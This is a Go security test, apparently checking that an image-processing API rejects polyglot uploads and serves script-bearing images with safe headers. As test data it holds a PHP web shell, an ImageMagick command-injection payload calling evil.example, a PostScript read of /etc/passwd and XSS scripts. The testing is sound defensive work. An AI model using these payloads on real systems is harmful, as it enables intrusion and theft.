package main

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"slices"
	"strings"
)

// polyglots are files that are an image to one reader and something else to another.
func polyglots() map[string]source {
	glued := func(front []byte, behind string) source { return inline(append(slices.Clone(front), behind...)) }
	before := func(front string, image []byte) source { return inline(append([]byte(front), image...)) }
	const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`
	declared := func(media, text string) source {
		s := inline([]byte(text))
		s.Base64 = "data:" + media + ";base64," + s.Base64
		return s
	}
	return map[string]source{
		"JPEG and archive": glued(photograph, "PK\x03\x04\x14\x00\x00\x00"), "PNG and archive": glued(drawing, "PK\x03\x04\x14\x00\x00\x00"),
		"JPEG and PDF": glued(photograph, "%PDF-1.7\n"), "PNG and PDF": glued(drawing, "%PDF-1.7\n"), "JPEG and program": glued(photograph, "MZ\x90\x00\x03"),
		"PNG and program": glued(drawing, "\x7fELF\x02\x01\x01"), "JPEG and GIF": glued(photograph, "GIF89a"), "PNG and RAR": glued(drawing, "Rar!\x1a\x07\x00"),
		"HTML before JPEG": before("<html><script>alert(1)</script>", photograph), "GIF before JPEG": before("GIF89a/*", photograph), "PDF before PNG": before("%PDF-1.7\n", drawing),
		"line break before PNG": before("\n", drawing), "BOM before JPEG": before("\xef\xbb\xbf", photograph), "shebang before JPEG": before("#!/bin/sh\n", photograph),
		"SVG as JPEG": declared("image/jpeg", svg), "SVG": declared("image/svg+xml", svg), "HTML as PNG": declared("image/png", "<!DOCTYPE html><script>alert(1)</script>"),
		"GIF as PNG": declared("image/png", "GIF89a\x01\x00\x01\x00\x00\x00\x00;"), "script as JPEG": declared("image/jpeg", "alert(1)//"), "PHP as JPEG": declared("image/jpeg", "<?php system($_GET[0]);"),
		"ImageMagick script": declared("image/png", "push graphic-context\nfill 'url(https://evil.example/\"|id\")'\npop graphic-context"), "PostScript": declared("image/jpeg", "%!PS\n(/etc/passwd) (r) file"),
		"TIFF as JPEG": declared("image/jpeg", "II*\x00\x08\x00\x00\x00"), "WebP as PNG": declared("image/png", "RIFF\x10\x00\x00\x00WEBPVP8 "), "HEIC as JPEG": declared("image/jpeg", "\x00\x00\x00\x18ftypheic\x00\x00\x00\x00"),
		"BMP as PNG": declared("image/png", "BM\x1e\x00\x00\x00"), "ICO as PNG": declared("image/png", "\x00\x00\x01\x00\x01\x00"), "magic of PNG only": inline(drawing[:8]), "magic of JPEG only": inline(photograph[:3]),
		"PNG magic, JPEG inside": before("\x89PNG\r\n\x1a\n", photograph), "JPEG magic, PNG inside": before("\xff\xd8\xff", drawing), "gzip of JPEG": inline([]byte(compressed(string(photograph)))),
	}
}

// attackPolyglots sends what is not only an image. Refused is that the image ends
// as failed for its bytes. A picture whose comment is a script is an honest one:
// there it is that a browser is told to run nothing of it.
func attackPolyglots(ctx context.Context, t *target, r *tally) {
	refuseImages(ctx, t, r, polyglots(), "unsupported_format", "not_an_image", "damaged_image")

	script := jpegSegment(0xfe, []byte("--><script>alert(1)</script>")...)
	commented := append(append(slices.Clone(photograph[:2]), script...), photograph[2:]...)
	j, err := t.process(ctx, source{Base64: inline(commented).Base64, Name: "a.html"})
	if err != nil {
		r.note("a comment that is a script", err)
		return
	}
	for kind, media := range map[string]string{"file": "image/jpeg", "thumbnail": "image/jpeg", "metadata": "application/json"} {
		a, err := t.do(ctx, http.MethodGet, "/api/v1/batch/"+j.ID+"/images/0/"+kind, nil)
		h := a.header
		if err == nil && (a.status != http.StatusOK || h.Get("X-Content-Type-Options") != "nosniff" || !strings.HasPrefix(h.Get("Content-Disposition"), "attachment") ||
			!strings.Contains(h.Get("Content-Security-Policy"), "default-src 'none'") || !strings.Contains(h.Get("Content-Security-Policy"), "sandbox") || !strings.HasPrefix(h.Get("Content-Type"), media)) {
			err = fmt.Errorf("%d with %v", a.status, h)
		}
		r.note("a comment that is a script: "+kind, err)
	}
	a, err := t.do(ctx, http.MethodGet, "/api/v1/batch/"+j.ID+"/images/0/file", nil)
	if err == nil && bytes.HasPrefix(a.body, []byte("<")) {
		err = fmt.Errorf("the file begins as %.20q", a.body)
	}
	r.note("the file is an image", err)
}
